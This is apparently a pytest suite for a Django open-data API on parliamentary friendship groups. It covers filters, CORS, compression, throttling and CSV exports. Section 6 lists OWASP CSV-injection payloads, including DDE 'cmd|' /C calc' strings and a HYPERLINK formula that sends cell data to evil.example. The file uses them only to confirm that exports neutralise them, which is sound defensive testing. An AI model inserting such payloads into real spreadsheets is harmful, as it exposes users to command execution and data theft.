"""What re-users of the open data rely on (issue 24): filters that never drop a value
silently, CORS, compression, CSV cells a spreadsheet cannot run, NUL bytes, conditional
requests, the throttle."""

import datetime

import pytest
from django.utils import timezone

from tests.factories import make_group
from tests.factories import make_membership

API = "/api/v1/"


def ids(response):
    assert response.status_code == 200, response.content
    return sorted(row["id"] for row in response.json()["results"])


# --- 1. boolean filters -----------------------------------------------------------------


@pytest.fixture
def current_and_past(db):
    group = make_group(slug="france-japon")
    current = make_membership(group=group)
    past = make_membership(
        group=group, start_date=datetime.date(2017, 10, 1), end_date=datetime.date(2020, 9, 30)
    )
    return group, str(current.pk), str(past.pk)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("true", "current"), ("1", "current"), ("yes", "current"), ("oui", "current"),
        ("True", "current"), ("on", "current"),
        ("false", "past"), ("0", "past"), ("no", "past"), ("non", "past"), ("off", "past"),
    ],
)  # fmt: skip
def test_boolean_filter_accepts_the_usual_spellings(client, current_and_past, value, expected):
    group, current, past = current_and_past
    response = client.get(f"{API}memberships/", {"organization": group.slug, "current": value})
    assert ids(response) == [current if expected == "current" else past]


@pytest.mark.parametrize("value", ["2", "3", "maybe", "null", "peut-être"])
def test_boolean_filter_refuses_other_values_naming_the_parameter(client, current_and_past, value):
    response = client.get(f"{API}memberships/", {"current": value})
    assert response.status_code == 400
    assert list(response.json()) == ["current"]


def test_boolean_filter_is_a_boolean_in_the_schema(client, db):
    schema = client.get(f"{API}openapi.json").json()
    parameters = schema["paths"]["/api/v1/memberships/"]["get"]["parameters"]
    (current,) = [p for p in parameters if p["name"] == "current"]
    assert current["schema"]["type"] == "boolean"


# --- 2. CORS --------------------------------------------------------------------------

ORIGIN = "https://reuser.example"


def test_cors_preflight_for_a_conditional_request_is_answered(client, db):
    response = client.options(
        f"{API}organizations/",
        HTTP_ORIGIN=ORIGIN,
        HTTP_ACCESS_CONTROL_REQUEST_METHOD="GET",
        HTTP_ACCESS_CONTROL_REQUEST_HEADERS="if-none-match",
    )
    assert response.status_code == 200
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "GET" in response["Access-Control-Allow-Methods"]
    assert "if-none-match" in response["Access-Control-Allow-Headers"].lower()
    assert "Access-Control-Allow-Credentials" not in response


def test_cors_exposes_etag_and_retry_after_even_on_errors(client, db, settings):
    from django.core.cache import caches

    cache = caches["throttle"]
    make_group(slug="france-japon")
    response = client.get(f"{API}organizations/", HTTP_ORIGIN=ORIGIN)
    assert response["Access-Control-Allow-Origin"] == "*"
    exposed = {h.strip().lower() for h in response["Access-Control-Expose-Headers"].split(",")}
    assert {"etag", "retry-after"} <= exposed
    assert response["ETag"]
    missing = client.get(f"{API}organizations/nothing/", HTTP_ORIGIN=ORIGIN)
    assert missing.status_code == 404 and missing["Access-Control-Allow-Origin"] == "*"
    settings.API_THROTTLE_RATE = "1/minute"
    cache.clear()
    try:
        client.get(API, HTTP_ORIGIN=ORIGIN, REMOTE_ADDR="192.0.2.9")
        refused = client.get(API, HTTP_ORIGIN=ORIGIN, REMOTE_ADDR="192.0.2.9")
        assert refused.status_code == 429
        assert refused["Access-Control-Allow-Origin"] == "*" and refused["Retry-After"]
    finally:
        cache.clear()


def test_cors_covers_the_bulk_files_and_nothing_else_of_the_site(client, db, settings, tmp_path):
    from api.opendata import opendata_export

    settings.MEDIA_ROOT = tmp_path
    name = opendata_export().path.name
    for prefix in ("/fr/donnees/", "/en/data/"):
        download = client.get(prefix + name, HTTP_ORIGIN=ORIGIN)
        assert download.status_code == 200
        assert download["Access-Control-Allow-Origin"] == "*"
    page = client.get("/fr/", HTTP_ORIGIN=ORIGIN)
    assert page.status_code == 200
    assert "Access-Control-Allow-Origin" not in page
    preflight = client.options(
        "/i18n/setlang/", HTTP_ORIGIN=ORIGIN, HTTP_ACCESS_CONTROL_REQUEST_METHOD="POST"
    )
    assert "Access-Control-Allow-Origin" not in preflight


# --- 3. a bad filter value on the HTML lists and their CSV ------------------------------

BAD_FILTERS = [
    ("groups:list", "country", "ZZ"),
    ("groups:senator-list", "in_office", "former"),
    ("missions:list", "year", "abc"),
    ("missions:colloquium-list", "country", "ZZ"),
    ("reports:list", "group", "nope"),
    ("reports:news-list", "year", "1800"),
    ("cooperation:list", "kind", "planet"),
]


@pytest.fixture
def one_of_each(db):
    from tests.factories import make_agreement
    from tests.factories import make_colloquium
    from tests.factories import make_mission
    from tests.factories import make_news
    from tests.factories import make_report
    from tests.factories import make_senator

    group = make_group(name_fr="France-Japon")
    make_senator(last_name="Curie")
    make_mission(group=group, title_fr="Mission au Japon")
    make_colloquium(  # a past one: the page's paginated list
        groups=[group], start_at=timezone.now() - datetime.timedelta(days=30)
    )
    make_report(group=group, title_fr="Rapport Japon")
    make_news(groups=[group], title_fr="Actualité Japon")
    make_agreement()
    return group


@pytest.mark.parametrize("name, field, value", BAD_FILTERS)
def test_a_bad_filter_value_lists_nothing_and_says_why(client, one_of_each, name, field, value):
    from django.urls import reverse

    url = reverse(name)
    everything = client.get(url)
    assert everything.status_code == 200
    assert everything.context["page"].paginator.count >= 1  # there is something to hide
    response = client.get(url, {field: value})
    assert response.status_code == 200
    assert response.context["page"].paginator.count == 0
    assert response.context["filter"].errors[field]
    assert 'class="field-error"' in response.content.decode()


@pytest.mark.parametrize("name, field, value", BAD_FILTERS)
def test_a_bad_filter_value_in_a_csv_is_a_400_with_the_reason(
    client, one_of_each, name, field, value
):
    from django.urls import reverse

    url = reverse(name)
    assert client.get(url, {"format": "csv"}).status_code == 200
    response = client.get(url, {field: value, "format": "csv"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    body = response.content.decode()
    assert body.startswith(f"{field}: ")
    assert len(body) > len(f"{field}: \n")  # the form's own message, in French here


# --- 4. an area's parent is an area -----------------------------------------------------


def test_every_areas_parent_is_a_zone_served_as_an_area(client, groups_with_everything):
    from tests import popolo
    from tests.factories import make_country
    from tests.factories import make_zone

    groups_with_everything(3)
    make_country(zone=make_zone(slug="afrique", name_fr="Afrique", name_en="Africa"))
    areas = client.get(f"{API}areas/").json()["results"]
    parents = {area["parent_id"] for area in areas}
    assert "afrique" in parents and len(parents) == 2
    for parent in parents:
        response = client.get(f"{API}zones/{parent}/")
        assert response.status_code == 200
        zone = response.json()
        assert zone["id"] == parent and zone["classification"] == "zone"
        popolo.check("area", zone)
    assert client.get(f"{API}zones/afrique/").json()["name_en"] == "Africa"
    listed = {zone["id"] for zone in client.get(f"{API}zones/").json()["results"]}
    assert parents <= listed


def test_zones_list_query_count(client, db, django_assert_num_queries):
    from tests.factories import make_zone

    for _ in range(3):
        make_zone()
    # 1 count  2 the page
    with django_assert_num_queries(2):
        assert client.get(f"{API}zones/").json()["count"] == 3


def test_bulk_zip_holds_the_zones_its_areas_name(db, settings, tmp_path):
    import json
    import zipfile

    from api.opendata import opendata_export
    from tests.factories import make_country

    settings.MEDIA_ROOT = tmp_path
    make_country(code="JP")
    with zipfile.ZipFile(opendata_export().path) as archive:
        areas = json.loads(archive.read("areas.json"))
        zones = json.loads(archive.read("zones.json"))
        assert archive.read("zones.csv")
    assert {a["parent_id"] for a in areas} <= {z["id"] for z in zones}


# --- 5. compression ---------------------------------------------------------------------


def gunzip(response):
    import gzip

    body = b"".join(response.streaming_content) if response.streaming else response.content
    return gzip.decompress(body)


def test_api_json_is_gzipped_and_its_etag_still_gives_304(client, db):
    import json

    for _ in range(20):
        make_group(description_fr="<p>Coopération parlementaire et échanges culturels.</p>")
    plain = client.get(f"{API}organizations/")
    assert "Content-Encoding" not in plain
    response = client.get(f"{API}organizations/", HTTP_ACCEPT_ENCODING="gzip")
    assert response["Content-Encoding"] == "gzip"
    assert "Accept-Encoding" in response["Vary"]
    assert json.loads(gunzip(response)) == plain.json()
    assert len(response.content) < len(plain.content) / 3
    again = client.get(
        f"{API}organizations/", HTTP_ACCEPT_ENCODING="gzip", HTTP_IF_NONE_MATCH=response["ETag"]
    )
    assert again.status_code == 304


def test_csv_downloads_are_gzipped(client, db):
    for _ in range(20):
        make_group()
    response = client.get("/fr/groupes/?format=csv", HTTP_ACCEPT_ENCODING="gzip")
    assert response.status_code == 200
    assert response["Content-Encoding"] == "gzip"
    assert gunzip(response).decode("utf-8").startswith("\ufeffNom;")


@pytest.mark.parametrize("url", ["/fr/", "/fr/groupes/", "/admin/login/", "/en/data/"])
def test_pages_that_may_hold_a_secret_are_never_compressed(client, db, url):
    for _ in range(20):
        make_group()
    response = client.get(url, HTTP_ACCEPT_ENCODING="gzip, br")
    assert response.status_code == 200
    assert "Content-Encoding" not in response
    assert b"<html" in response.content  # sent as it is, readable


# --- 6. CSV formula injection -----------------------------------------------------------

# OWASP's « CSV Injection » payloads: each starts with a character a spreadsheet reads
# as the start of a formula.
OWASP_PAYLOADS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def csv_cells(response):
    import csv
    import io

    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]


def assert_inert(cells, payload):
    assert "'" + payload in cells, (payload, cells)
    assert payload not in cells


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_csv_cells_that_start_like_a_formula_are_neutralised(client, db, payload):
    from tests.factories import make_senator

    group = make_group(name_fr=payload, slug="france-japon")
    make_membership(group=group, senator=make_senator(last_name=payload, first_name="Marie"))
    assert_inert(csv_cells(client.get("/fr/groupes/?format=csv")), payload)
    assert_inert(csv_cells(client.get("/fr/senateurs/?format=csv")), payload)
    members = csv_cells(client.get("/fr/groupes/france-japon/?format=csv"))
    assert_inert(members, payload)
    assert "Marie" in members  # ordinary text as it is


def test_csv_neutralising_is_in_the_bulk_zip_and_the_cooperation_list(client, db, settings):
    import csv
    import io
    import zipfile

    from api.opendata import opendata_export
    from tests.factories import make_agreement
    from tests.factories import make_foreign_authority

    payload = '=HYPERLINK("https://evil.example")'
    make_group(name_fr=payload)
    make_agreement(foreign=[make_foreign_authority(name_fr=payload)])
    assert_inert(csv_cells(client.get("/fr/cooperation/?format=csv")), payload)
    with zipfile.ZipFile(opendata_export().path) as archive:
        text = archive.read("organizations.csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert_inert(cells, payload)


def test_numbers_and_dates_are_not_neutralised():
    from core.exports import cell
    from core.exports import neutralised

    for value in (-3, -2.5, datetime.date(2024, 1, 2), True, None):
        assert neutralised(value, cell(value)) == cell(value)
    assert neutralised("-3", "-3") == "'-3"  # text that looks like a number is text
    assert neutralised("France-Japon", "France-Japon") == "France-Japon"


# --- 7. NUL bytes (the fuzz test is in test_fuzz_public_urls.py) ---------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/organizations/%00/",
        "/api/v1/persons/a%00b/",
        "/api/v1/missions/%00/",
        "/api/v1/organizations/?zone=%00",
        "/fr/groupes/?country=%00",
        "/fr/rapports/?q=a%00b",
        "/fr/groupes/?%00=1",
        "/admin/%00/",
    ],
)
def test_a_nul_byte_is_a_404_not_a_500(client, db, url):
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 404
    if url.startswith("/api/"):
        assert response.json() == {"detail": "Not found."}


# --- 8. conditional requests after an unpublishing or a deletion --------------------------


@pytest.mark.parametrize("change", ["unpublish", "delete"])
def test_if_modified_since_never_hides_an_unpublished_or_deleted_row(client, db, change):
    from django.utils.http import http_date

    from tests.factories import make_news

    make_news(slug="stays", date=datetime.date(2024, 1, 2))
    leaving = make_news(slug="leaves", date=datetime.date(2024, 1, 1))
    first = client.get(f"{API}news/")
    assert ids(first) == ["leaves", "stays"]
    since = first.get("Last-Modified") or http_date(timezone.now().timestamp() + 3600)
    if change == "unpublish":
        leaving.status = "draft"
        leaving.save()
    else:
        leaving.delete()
    again = client.get(f"{API}news/", HTTP_IF_MODIFIED_SINCE=since)
    assert again.status_code == 200
    assert ids(again) == ["stays"]
    assert client.get(f"{API}news/", HTTP_IF_NONE_MATCH=again["ETag"]).status_code == 304


# --- 9. one throttle count for every worker -----------------------------------------------

WORKER = """
import django
django.setup()
from django.test import Client
client = Client()
print(sum(client.get("/api/v1/", REMOTE_ADDR="192.0.2.77").status_code == 200 for _ in range(15)))
"""


def test_the_api_throttle_is_counted_once_for_all_workers(tmp_path):
    """Two processes (gunicorn's workers are processes), one after the other, each sending
    15 requests from one address under a limit of 5 a minute: 5 answered in all, not 5 each."""
    import os
    import subprocess
    import sys

    from tests.servers import ROOT

    env = {**os.environ, "API_THROTTLE_RATE": "5/minute", "SENAT_THROTTLE_DIR": str(tmp_path)}
    answered = [
        int(
            subprocess.run(
                [sys.executable, "-c", WORKER],
                cwd=ROOT,
                env=env,
                capture_output=True,
                text=True,
                check=True,
            ).stdout.split()[-1]
        )
        for _worker in range(2)
    ]
    assert answered == [5, 0]


# --- 10. cooperation agreements and authorities -------------------------------------------


@pytest.fixture
def agreements(db):
    from tests.factories import make_agreement
    from tests.factories import make_country
    from tests.factories import make_foreign_authority
    from tests.factories import make_local_authority

    japan = make_country(code="JP")
    made = [
        make_agreement(
            slug=f"accord-{n}",
            signed_on=datetime.date(2010 + n, 1, 1),
            french=[make_local_authority(slug=f"commune-{n}", insee_code=f"1500{n}")],
            foreign=[make_foreign_authority(name_fr=f"Nara {n}", country=japan)],
        )
        for n in range(3)
    ]
    make_agreement(
        slug="brouillon",
        status="draft",
        french=[make_local_authority(slug="commune-brouillon")],
    )
    return made


def test_agreements_and_authorities_are_in_the_api_published_only(client, agreements):
    from tests import popolo

    listed = client.get(f"{API}agreements/").json()["results"]
    assert [a["id"] for a in listed] == ["accord-2", "accord-1", "accord-0"]
    first = listed[0]
    assert first["french_authority_ids"] == ["commune-2"]
    assert first["foreign_authorities"][0]["name"] == "Nara 2"
    assert first["foreign_authorities"][0]["area_id"] == "JP"
    assert client.get(f"{API}agreements/accord-2/").json() == first
    assert client.get(f"{API}agreements/brouillon/").status_code == 404
    assert ids(client.get(f"{API}agreements/", {"country": "JP"})) == [
        "accord-0", "accord-1", "accord-2"
    ]  # fmt: skip
    assert client.get(f"{API}agreements/", {"country": "ZZ"}).status_code == 400

    authorities = client.get(f"{API}authorities/").json()["results"]
    assert sorted(a["id"] for a in authorities) == ["commune-0", "commune-1", "commune-2"]
    for authority in authorities:
        popolo.check("organization", authority)
    commune = client.get(f"{API}authorities/commune-1/").json()
    assert {"scheme": "insee.fr/cog", "identifier": "15001"} in commune["identifiers"]
    assert commune["department"] == "15" and commune["region"]
    assert client.get(f"{API}authorities/commune-brouillon/").status_code == 404


@pytest.mark.parametrize("resource, queries", [("agreements", 4), ("authorities", 2)])
def test_cooperation_lists_query_count(
    client, agreements, django_assert_num_queries, resource, queries
):
    # agreements: 1 count  2 page  3 French authorities (+ département, région)  4 foreign
    # ones (+ country); authorities: 1 count  2 page (+ département, région joined)
    with django_assert_num_queries(queries):
        assert client.get(f"{API}{resource}/").json()["count"] == 3


def test_bulk_zip_holds_agreements_and_authorities(agreements, settings, tmp_path):
    import json
    import zipfile

    from api.opendata import opendata_export

    settings.MEDIA_ROOT = tmp_path
    with zipfile.ZipFile(opendata_export().path) as archive:
        listed = json.loads(archive.read("agreements.json"))
        authorities = json.loads(archive.read("authorities.json"))
        csv_text = archive.read("authorities.csv").decode("utf-8-sig")
    assert [a["id"] for a in listed] == ["accord-2", "accord-1", "accord-0"]
    assert sorted(a["id"] for a in authorities) == ["commune-0", "commune-1", "commune-2"]
    assert "15001" in csv_text and "brouillon" not in csv_text
